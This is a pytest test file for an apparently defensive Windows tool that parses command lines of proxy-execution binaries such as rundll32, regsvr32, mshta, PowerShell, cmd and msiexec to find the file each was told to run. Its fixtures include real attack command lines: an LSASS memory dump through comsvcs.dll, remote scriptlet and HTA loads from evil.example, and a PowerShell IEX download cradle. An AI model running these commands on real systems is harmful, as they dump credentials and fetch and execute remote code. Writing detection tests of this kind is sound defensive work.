"""The file a proxy-execution binary was told to run: real-world command-line shapes, each with the
argv the C runtime reads and the target taken or the reason none is."""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from joedefender.domain.command_line import MAX_COMMAND_LINE, Dialect, split_command_line
from joedefender.domain.os_binaries import OsBinaryRules
from joedefender.domain.proxy_binaries import PROXY_BINARIES
from joedefender.domain.proxy_targets import (
    MAX_DETAIL,
    MAX_FILES_PER_LINE,
    MAX_TARGETS_PER_ALERT,
    ProcessRun,
    Skip,
    Target,
    TargetReason,
    alert_targets,
    command_line_targets,
)
from tests.domain.work import assert_linear

R = TargetReason


@dataclass(frozen=True)
class Shape:
    image: str
    line: str
    argv: tuple[str, ...]  # as the C runtime splits the line
    targets: tuple[str, ...] = ()
    reasons: tuple[TargetReason, ...] = ()


SHAPES = [
    # rundll32 <dll>,<entry> [args]
    Shape(  # Defender's own alert example
        "C:\\Windows\\SysWOW64\\rundll32.exe",
        r"rundll32.exe  c:\temp\suspicious.dll,RepeatAfterMe",
        ("rundll32.exe", r"c:\temp\suspicious.dll,RepeatAfterMe"),
        (r"C:\temp\suspicious.dll",),
    ),
    Shape(
        "rundll32.exe",
        r'"C:\Windows\System32\rundll32.exe" "C:\Program Files\Vendor\x.dll",#1',
        (r"C:\Windows\System32\rundll32.exe", r"C:\Program Files\Vendor\x.dll,#1"),
        (r"C:\Program Files\Vendor\x.dll",),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe C:\ProgramData\upd.dat,DllRegisterServer -k 1",
        ("rundll32.exe", r"C:\ProgramData\upd.dat,DllRegisterServer", "-k", "1"),
        (r"C:\ProgramData\upd.dat",),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe C:\Users\Public\x.dll",  # no entry: DllMain still runs
        ("rundll32.exe", r"C:\Users\Public\x.dll"),
        (r"C:\Users\Public\x.dll",),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe C:\ProgramData\payload,Start",
        ("rundll32.exe", r"C:\ProgramData\payload,Start"),
        reasons=(R.AMBIGUOUS,),  # LoadLibrary may have appended .dll
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe C:\ProgramData\payload.,Start",  # the trailing dot says: no extension
        ("rundll32.exe", r"C:\ProgramData\payload.,Start"),
        (r"C:\ProgramData\payload",),
    ),
    Shape(
        "rundll32.exe",
        r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();',
        ("rundll32.exe", r"javascript:\..\mshtml,RunHTMLApplication ;document.write();"),
        reasons=(R.URL,),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe shell32.dll,ShellExec_RunDLL C:\Users\Public\evil.exe",
        ("rundll32.exe", "shell32.dll,ShellExec_RunDLL", r"C:\Users\Public\evil.exe"),
        (r"C:\Users\Public\evil.exe",),
    ),
    Shape(
        "rundll32.exe",
        r'rundll32.exe url.dll,FileProtocolHandler "C:\Users\x\Downloads\invoice.hta"',
        ("rundll32.exe", "url.dll,FileProtocolHandler", r"C:\Users\x\Downloads\invoice.hta"),
        (r"C:\Users\x\Downloads\invoice.hta",),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe -sta {00000000-0000-0000-0000-000000000001}",
        ("rundll32.exe", "-sta", "{00000000-0000-0000-0000-000000000001}"),
        reasons=(R.NO_FILE,),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,0",
        ("rundll32.exe", "shell32.dll,Control_RunDLL", "desk.cpl,,0"),
        reasons=(R.RELATIVE_PATH,),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe \\evil.example\share\x.dll,Go",
        ("rundll32.exe", r"\\evil.example\share\x.dll,Go"),
        reasons=(R.UNC_PATH,),
    ),
    Shape(
        "rundll32.exe",
        r'rundll32.exe "C:\temp\file.txt:evil.dll",Entry',
        ("rundll32.exe", r"C:\temp\file.txt:evil.dll,Entry"),
        reasons=(R.STREAM,),
    ),
    Shape(  # the LSASS dump: the DLL is Windows' own
        "rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
        ("rundll32.exe", r"C:\Windows\System32\comsvcs.dll,", "MiniDump", "624", r"C:\temp\lsass.dmp", "full"),
        reasons=(R.OS_BINARY,),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe C:\Windows\System32\..\..\Users\Public\x.dll,Go",
        ("rundll32.exe", r"C:\Windows\System32\..\..\Users\Public\x.dll,Go"),
        (r"C:\Users\Public\x.dll",),
    ),
    Shape(
        "rundll32.exe",
        r"rundll32.exe \\?\C:\Users\Public\x.dll,Go",
        ("rundll32.exe", r"\\?\C:\Users\Public\x.dll,Go"),
        (r"C:\Users\Public\x.dll",),
    ),
    Shape(  # the readings disagree: CRT and CommandLineToArgvW keep a quote, the plain rule drops both
        "rundll32.exe",
        r'rundll32.exe "C:\a""b\x.dll",Go',
        ("rundll32.exe", r'C:\a"b\x.dll,Go'),
        reasons=(R.AMBIGUOUS,),
    ),
    # regsvr32 [/u] [/s] [/n] [/i[:cmdline]] <dll>
    Shape(
        "regsvr32.exe",
        r"regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll",
        ("regsvr32", "/s", "/n", "/u", "/i:http://example.com/file.sct", "scrobj.dll"),
        reasons=(R.URL, R.RELATIVE_PATH),
    ),
    Shape(
        "regsvr32.exe",
        r'regsvr32.exe /s "C:\Users\x\AppData\Roaming\a b.ocx"',
        ("regsvr32.exe", "/s", r"C:\Users\x\AppData\Roaming\a b.ocx"),
        (r"C:\Users\x\AppData\Roaming\a b.ocx",),
    ),
    Shape(
        "regsvr32.exe",
        r'regsvr32 /u /n /i:"C:\Users\x\a.sct" scrobj.dll',
        ("regsvr32", "/u", "/n", r"/i:C:\Users\x\a.sct", "scrobj.dll"),
        (r"C:\Users\x\a.sct",),
        (R.RELATIVE_PATH,),
    ),
    # mshta <hta or URL>
    Shape(
        "mshta.exe",
        r'"C:\Windows\SysWOW64\mshta.exe" "C:\Users\x\a.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}',
        (r"C:\Windows\SysWOW64\mshta.exe", r"C:\Users\x\a.hta", "{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}"),
        (r"C:\Users\x\a.hta",),
    ),
    Shape(
        "mshta.exe",
        r'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")',
        ("mshta.exe", r'vbscript:Execute(CreateObject("WScript.Shell").Run "calc":close)'),
        reasons=(R.URL,),
    ),
    Shape(
        "mshta.exe",
        "mshta https://evil.example/payload.hta",
        ("mshta", "https://evil.example/payload.hta"),
        reasons=(R.URL,),
    ),
    # wscript / cscript [//options] <script>
    Shape(
        "wscript.exe",
        r'"C:\Windows\System32\WScript.exe" "C:\Users\x\AppData\Local\Temp\a.vbs"',
        (r"C:\Windows\System32\WScript.exe", r"C:\Users\x\AppData\Local\Temp\a.vbs"),
        (r"C:\Users\x\AppData\Local\Temp\a.vbs",),
    ),
    Shape(
        "cscript.exe",
        r"cscript.exe //nologo //E:jscript C:\ProgramData\x.txt arg",
        ("cscript.exe", "//nologo", "//E:jscript", r"C:\ProgramData\x.txt", "arg"),
        (r"C:\ProgramData\x.txt",),
    ),
    Shape(  # WSH's documented example: only the plain quote rule reads the path it means
        "cscript.exe",
        r'cscript //logo c:\"sample scripts"\chart.vbs',
        ("cscript", "//logo", 'c:"sample', r"scripts\chart.vbs"),
        reasons=(R.AMBIGUOUS,),
    ),
    Shape("wscript.exe", "wscript.exe a.vbs", ("wscript.exe", "a.vbs"), reasons=(R.RELATIVE_PATH,)),
    # powershell / pwsh
    Shape(
        "powershell.exe",
        r'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\Users\x\a.ps1" -Arg 1',
        ("powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-File", r"C:\Users\x\a.ps1", "-Arg", "1"),
        (r"C:\Users\x\a.ps1",),
    ),
    Shape(
        "powershell.exe",
        r"""powershell -nop -w hidden -c "& 'C:\Users\x\a.ps1'" """,
        ("powershell", "-nop", "-w", "hidden", "-c", r"& 'C:\Users\x\a.ps1'"),
        (r"C:\Users\x\a.ps1",),
    ),
    Shape(
        "powershell.exe",
        r"powershell.exe C:\Users\x\a.ps1",  # Windows PowerShell: a bare first argument is the command
        ("powershell.exe", r"C:\Users\x\a.ps1"),
        (r"C:\Users\x\a.ps1",),
    ),
    Shape(
        "powershell.exe",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        ("powershell", "-nop", "-w", "hidden", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
        reasons=(R.NO_FILE,),
    ),
    Shape(
        "powershell.exe",
        """powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" """,
        ("powershell", "-c", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"),
        reasons=(R.NO_FILE,),
    ),
    Shape(
        "powershell.exe",
        r"powershell -c .\a.ps1",  # profiles may change the location before the command runs
        ("powershell", "-c", r".\a.ps1"),
        reasons=(R.RELATIVE_PATH,),
    ),
    Shape(
        "pwsh.exe",
        r"pwsh.exe C:\Users\x\a.ps1",  # PowerShell 7: a bare first argument is the file
        ("pwsh.exe", r"C:\Users\x\a.ps1"),
        (r"C:\Users\x\a.ps1",),
    ),
    Shape(  # PowerShell 7 runs the file; Windows PowerShell runs the command C:\Users\x\my, which is no script
        "pwsh.exe",
        r'pwsh.exe "C:\Users\x\my script.ps1"',
        ("pwsh.exe", r"C:\Users\x\my script.ps1"),
        (r"C:\Users\x\my script.ps1",),
    ),
    Shape(
        "powershell.exe",
        r'powershell.exe "C:\Users\x\my script.ps1"',
        ("powershell.exe", r"C:\Users\x\my script.ps1"),
        reasons=(R.NO_FILE,),
    ),
    Shape(
        "pwsh.exe",
        r"pwsh --noprofile /f C:\Users\x\a.ps1",
        ("pwsh", "--noprofile", "/f", r"C:\Users\x\a.ps1"),
        (r"C:\Users\x\a.ps1",),
    ),
    # cmd /c
    Shape(
        "cmd.exe",
        r"cmd.exe /c C:\Users\x\a.bat",
        ("cmd.exe", "/c", r"C:\Users\x\a.bat"),
        (r"C:\Users\x\a.bat",),
    ),
    Shape(
        "cmd.exe",
        r'C:\Windows\system32\cmd.exe /c "C:\Users\x\run me.bat"',
        (r"C:\Windows\system32\cmd.exe", "/c", r"C:\Users\x\run me.bat"),
        (r"C:\Users\x\run me.bat",),
    ),
    Shape(
        "cmd.exe",
        r'cmd /s /c ""C:\Users\x\run me.bat" arg"',
        ("cmd", "/s", "/c", r"C:\Users\x\run", "me.bat arg"),
        (r"C:\Users\x\run me.bat",),
    ),
    Shape(
        "cmd.exe",
        r"cmd.exe /c rundll32.exe C:\ProgramData\a.dll,Go & del /q x",
        ("cmd.exe", "/c", "rundll32.exe", r"C:\ProgramData\a.dll,Go", "&", "del", "/q", "x"),
        (r"C:\ProgramData\a.dll",),
    ),
    Shape(
        "cmd.exe",
        r"cmd /c C:\Users\x\e^v^i^l.bat",
        ("cmd", "/c", r"C:\Users\x\e^v^i^l.bat"),
        (r"C:\Users\x\evil.bat",),
    ),
    Shape("cmd.exe", r"cmd /c %TEMP%\a.bat", ("cmd", "/c", r"%TEMP%\a.bat"), reasons=(R.UNPARSEABLE,)),
    Shape(
        "cmd.exe",
        r'cmd /c start "" C:\Users\x\a.exe',
        ("cmd", "/c", "start", "", r"C:\Users\x\a.exe"),
        reasons=(R.NO_FILE,),
    ),
    Shape("cmd.exe", r"cmd /c C:\Users\x\a", ("cmd", "/c", r"C:\Users\x\a"), reasons=(R.AMBIGUOUS,)),
    # msiexec /i|/package|/a|/j|/y …
    Shape(
        "msiexec.exe",
        "msiexec /q /i http://evil.example/x.msi",
        ("msiexec", "/q", "/i", "http://evil.example/x.msi"),
        reasons=(R.URL,),
    ),
    Shape(
        "msiexec.exe",
        r'msiexec.exe /package "C:\Users\x\Downloads\setup.msi" /qn TARGETDIR=C:\x',
        ("msiexec.exe", "/package", r"C:\Users\x\Downloads\setup.msi", "/qn", r"TARGETDIR=C:\x"),
        (r"C:\Users\x\Downloads\setup.msi",),
    ),
    Shape(
        "msiexec.exe",
        "msiexec /i {01234567-89AB-CDEF-0123-456789ABCDEF} /qn",
        ("msiexec", "/i", "{01234567-89AB-CDEF-0123-456789ABCDEF}", "/qn"),
        reasons=(R.NO_FILE,),
    ),
    Shape(
        "msiexec.exe",
        r"msiexec /y C:\Users\x\evil.dll",
        ("msiexec", "/y", r"C:\Users\x\evil.dll"),
        (r"C:\Users\x\evil.dll",),
    ),
    # .NET: installutil, regasm, regsvcs
    Shape(
        "InstallUtil.exe",
        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U C:\x\a.exe",
        (
            r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe",
            "/logfile=",
            "/LogToConsole=false",
            "/U",
            r"C:\x\a.exe",
        ),
        (r"C:\x\a.exe",),
    ),
    Shape("RegAsm.exe", r"regasm.exe /U C:\x\a.dll", ("regasm.exe", "/U", r"C:\x\a.dll"), (r"C:\x\a.dll",)),
    Shape("RegSvcs.exe", r"regsvcs.exe C:\x\a.dll", ("regsvcs.exe", r"C:\x\a.dll"), (r"C:\x\a.dll",)),
    # not a proxy
    Shape("notepad.exe", r"notepad.exe C:\x\a.txt", ("notepad.exe", r"C:\x\a.txt"), reasons=(R.NOT_A_PROXY,)),
]


@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.line[:60])
def test_real_world_shapes(shape: Shape) -> None:
    assert split_command_line(shape.line, Dialect.CRT) == shape.argv
    result = command_line_targets(ProcessRun(shape.image, shape.line))
    assert tuple(target.path for target in result.found) == shape.targets
    assert tuple(skip.reason for skip in result.skipped) == shape.reasons


def test_the_table_has_at_least_thirty_shapes_and_covers_every_binary() -> None:
    assert len(SHAPES) >= 30
    images = {shape.image.lower().rpartition("\\")[2] for shape in SHAPES}
    assert set(PROXY_BINARIES) <= images


def test_a_target_says_which_binary_ran_it() -> None:
    direct = command_line_targets(ProcessRun("rundll32.exe", r"rundll32 C:\x\a.dll,Go"))
    nested = command_line_targets(ProcessRun("cmd.exe", r"cmd /c rundll32 C:\x\a.dll,Go"))
    assert direct.found == (Target(r"C:\x\a.dll", "rundll32.exe"),)
    assert nested.found == (Target(r"C:\x\a.dll", "rundll32.exe (started by cmd.exe)"),)


@pytest.mark.parametrize(
    ("image", "line", "target"),
    [
        ("wscript.exe", "wscript.exe a.vbs", r"C:\Users\x\a.vbs"),
        ("cscript.exe", r"cscript //B ..\Public\a.js", r"C:\Users\Public\a.js"),
        ("powershell.exe", r"powershell -File .\a.ps1", r"C:\Users\x\a.ps1"),
        ("msiexec.exe", "msiexec /i setup.msi", r"C:\Users\x\setup.msi"),
        ("installutil.exe", "installutil a.exe", r"C:\Users\x\a.exe"),
    ],
)
def test_a_relative_path_is_resolved_against_the_working_directory_where_the_rules_say_so(
    image: str, line: str, target: str
) -> None:
    assert command_line_targets(ProcessRun(image, line)).skipped[0].reason is R.RELATIVE_PATH
    result = command_line_targets(ProcessRun(image, line, working_directory="C:\\Users\\x\\"))
    assert [found.path for found in result.found] == [target]


@pytest.mark.parametrize(
    ("image", "line"),
    [
        ("rundll32.exe", "rundll32 a.dll,Go"),  # LoadLibrary searches several folders
        ("regsvr32.exe", "regsvr32 a.dll"),
        ("mshta.exe", "mshta a.hta"),
        ("cmd.exe", "cmd /c a.bat"),  # cmd searches PATH
        ("wscript.exe", r"wscript C:a.vbs"),  # relative to drive C's own current directory
        ("wscript.exe", r"wscript \a.vbs"),
    ],
)
def test_a_relative_path_is_refused_where_the_rules_search_or_say_nothing(image: str, line: str) -> None:
    result = command_line_targets(ProcessRun(image, line, working_directory="C:\\Users\\x"))
    assert result.found == ()
    assert [skip.reason for skip in result.skipped] == [R.RELATIVE_PATH]


def test_the_root_of_a_drive_works_as_a_working_directory() -> None:
    result = command_line_targets(ProcessRun("wscript.exe", "wscript a.vbs", working_directory="D:\\"))
    assert [found.path for found in result.found] == ["D:\\a.vbs"]


def test_extra_os_rules_and_exceptions_apply_to_targets() -> None:
    line = r"rundll32 C:\Tools\helper.dll,Go"
    assert command_line_targets(ProcessRun("rundll32.exe", line)).found
    tools = OsBinaryRules.with_extra(["C:\\Tools\\*"])
    assert command_line_targets(ProcessRun("rundll32.exe", line), tools).skipped[0].reason is R.OS_BINARY
    exempt = OsBinaryRules.with_extra(["!C:\\Windows\\System32\\odd.dll"])
    odd = command_line_targets(ProcessRun("rundll32.exe", r"rundll32 C:\Windows\System32\odd.dll,Go"), exempt)
    assert [found.path for found in odd.found] == [r"C:\Windows\System32\odd.dll"]


def _run(index: int) -> ProcessRun:
    return ProcessRun("rundll32.exe", rf"rundll32 C:\x\{index}.dll,Go")


def test_an_alert_takes_each_target_once_and_at_most_a_few() -> None:
    runs = [
        ProcessRun("C:\\Users\\x\\QuickUpdater.exe", "QuickUpdater.exe --silent"),
        _run(0),
        ProcessRun("rundll32.exe", r"rundll32 c:/X/0.DLL,Other"),  # the same file, spelled otherwise
        *(_run(index) for index in range(1, 7)),
    ]
    result = alert_targets(runs)
    assert [found.path for found in result.found] == [rf"C:\x\{index}.dll" for index in range(MAX_TARGETS_PER_ALERT)]
    assert all(skip.reason is R.TOO_MANY for skip in result.skipped)  # the image that is no proxy says nothing
    assert result.skipped[-1].detail == "3 more process(es), not read"


def test_an_alert_with_many_targets_in_one_line_keeps_the_first_few() -> None:
    line = "regsvr32 " + " ".join(rf"C:\x\{index}.dll" for index in range(1_000))
    result = alert_targets([ProcessRun("regsvr32.exe", line)])
    assert len(result.found) == MAX_TARGETS_PER_ALERT
    assert [skip.detail for skip in result.skipped] == [
        *(rf"C:\x\{index}.dll" for index in range(MAX_TARGETS_PER_ALERT, MAX_FILES_PER_LINE)),
        "992 more file(s) named on one command line, not read",
    ]


def test_a_reason_shows_attacker_text_escaped_and_bounded() -> None:
    hidden = command_line_targets(ProcessRun("mshta.exe", "mshta https://evil.example/\u202ecod.exe\nline2"))
    assert hidden.skipped[0].text == "https://evil.example/\\u{202E}cod.exe\\nline2 is a URL, not a file on the machine"
    huge = command_line_targets(ProcessRun("mshta.exe", "mshta https://evil.example/" + "a" * 20_000))
    assert len(huge.skipped[0].text) < MAX_DETAIL + 60
    assert huge.skipped[0].text.endswith("… is a URL, not a file on the machine")


@pytest.mark.parametrize("reason", list(TargetReason))
def test_every_reason_reads_as_a_sentence_with_its_detail(reason: TargetReason) -> None:
    text = Skip(reason, "C:\\x\\a.dll").text
    assert "C:\\x\\a.dll" in text
    assert "{" not in text


def test_an_image_name_is_matched_on_its_file_name_without_regard_to_case() -> None:
    for image in ("RUNDLL32.EXE", "rundll32", "C:/Windows/SysWOW64/RunDll32.exe", "\\\\?\\C:\\W\\rundll32.exe"):
        assert command_line_targets(ProcessRun(image, r"rundll32 C:\x\a.dll,Go")).found
    lookalike = command_line_targets(ProcessRun("rundlI32.exe", r"rundll32 C:\x\a.dll,Go"))
    assert lookalike.skipped[0].reason is R.NOT_A_PROXY


def test_a_command_line_longer_than_windows_allows_is_refused_with_its_reason() -> None:
    line = "rundll32 C:\\x\\a.dll,Go " + "a" * MAX_COMMAND_LINE
    assert command_line_targets(ProcessRun("rundll32.exe", line)).skipped == (
        Skip(R.TOO_LONG, "longer than the 32,767 characters Windows allows"),
    )


_IMAGES = st.sampled_from([*PROXY_BINARIES, "notepad.exe"])
_HOSTILE = st.text(alphabet=st.sampled_from([*"ab\\/:.\"^&%! \t,;=#{}$`'-@(|)<>*?", "\0", "\u202e", "é"]))


@given(_IMAGES, st.text(max_size=200) | _HOSTILE, st.none() | st.text(max_size=30))
def test_any_command_line_gives_targets_or_reasons_and_never_raises(image: str, line: str, folder: str | None) -> None:
    result = command_line_targets(ProcessRun(image, line, working_directory=folder))
    assert result.found or result.skipped
    for target in result.found:
        assert target.path[1:3] == ":\\"


@pytest.mark.parametrize(
    ("image", "prefix", "piece"),
    [
        ("rundll32.exe", "rundll32 ", '\\\\\\"'),
        ("rundll32.exe", "rundll32 C:\\x", "\\.."),
        ("regsvr32.exe", "regsvr32 ", "C:\\a.dll "),
        ("regsvr32.exe", "regsvr32 ", "/i:C:\\a "),
        ("msiexec.exe", "msiexec ", "/i C:\\a.msi "),
        ("installutil.exe", "installutil ", "C:\\a\\b.exe "),
        ("cmd.exe", "cmd /c ", "^a"),
        ("cmd.exe", "cmd ", "/q "),
        ("powershell.exe", "powershell ", "-nop "),
        ("powershell.exe", "powershell -c ", "a"),
        ("pwsh.exe", "pwsh ", "-ep x "),
        ("wscript.exe", "wscript ", "//B "),
        ("mshta.exe", "mshta ", '"'),
    ],
)
def test_finding_targets_is_linear_even_on_hostile_lines(image: str, prefix: str, piece: str) -> None:
    assert_linear(
        lambda line: command_line_targets(ProcessRun(image, line)),
        lambda size: prefix + piece * ((size - len(prefix)) // len(piece)),
    )
